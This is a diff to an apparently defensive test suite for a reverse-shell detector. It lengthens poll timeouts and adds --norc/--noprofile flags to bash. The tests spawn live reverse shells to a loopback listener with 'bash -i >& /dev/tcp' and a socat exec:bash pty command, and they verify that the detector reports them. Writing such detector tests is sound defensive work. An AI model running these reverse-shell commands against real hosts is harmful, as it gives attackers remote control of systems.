@@ -156,7 +156,7 @@ function findingsFor(s: ProcessSnapshot, root: number): ReverseShellFinding[] {
 }
 
 /** Poll real snapshots until `ready` holds (bounded), then return that snapshot. */
-async function waitFor(ready: (s: ProcessSnapshot) => boolean, what: string, limitMs = 10_000): Promise<ProcessSnapshot> {
+async function waitFor(ready: (s: ProcessSnapshot) => boolean, what: string, limitMs = 30_000): Promise<ProcessSnapshot> {
   const until = Date.now() + limitMs;
   for (;;) {
     const s = snapshot();
@@ -169,7 +169,7 @@ async function waitFor(ready: (s: ProcessSnapshot) => boolean, what: string, lim
 /** Proves the connection is a working shell: the listener sends arithmetic only a shell evaluates. */
 async function expectShellAnswers(l: Listener, marker: string): Promise<void> {
   l.send(`echo ${marker}_$((6*7))\n`);
-  const until = Date.now() + 10_000;
+  const until = Date.now() + 30_000;
   while (!l.received().includes(`${marker}_42`)) {
     if (Date.now() > until) throw new Error(`shell did not answer; got ${JSON.stringify(l.received().slice(-200))}`);
     await sleep(100);
@@ -183,7 +183,9 @@ function shellIn(s: ProcessSnapshot, root: number, match: (p: ProcessInfo) => bo
 describe('live reverse shells on loopback', () => {
   it('class 1: bash -i >& /dev/tcp', async () => {
     const l = listener as Listener;
-    const root = launch(['bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${l.port} 0>&1`]);
+    // --norc/--noprofile: the detector does not care, but a slow ~/.bashrc (pyenv init) on a loaded
+    // CI machine can delay the connection past the poll limit.
+    const root = launch(['bash', '-c', `bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/${l.port} 0>&1`]);
     const s = await waitFor((x) => findingsFor(x, root).length > 0 && l.conns.length > 0, 'class-1 finding');
     const shell = shellIn(s, root, (p) => p.comm === 'bash' && p.fds.some((f) => f.fd === 0 && f.kind === 'socket'));
     expect(shell).toBeDefined();
@@ -216,7 +218,7 @@ describe('live reverse shells on loopback', () => {
 
   it.skipIf(!SOCAT)('class 2 via a pty: socat exec:bash -li,pty,setsid', async () => {
     const l = listener as Listener;
-    const root = launch([SOCAT as string, "exec:'bash -li',pty,stderr,setsid,sigint,sane", `tcp:127.0.0.1:${l.port}`]);
+    const root = launch([SOCAT as string, "exec:'bash --norc --noprofile -i',pty,stderr,setsid,sigint,sane", `tcp:127.0.0.1:${l.port}`]);
     const s = await waitFor((x) => findingsFor(x, root).some((f) => f.class === 2) && l.conns.length > 0, 'class-2 pty finding');
     const shell = shellIn(s, root, (p) => p.comm === 'bash');
     expect(shell?.fds.find((f) => f.fd === 0)?.kind).toBe('pts');
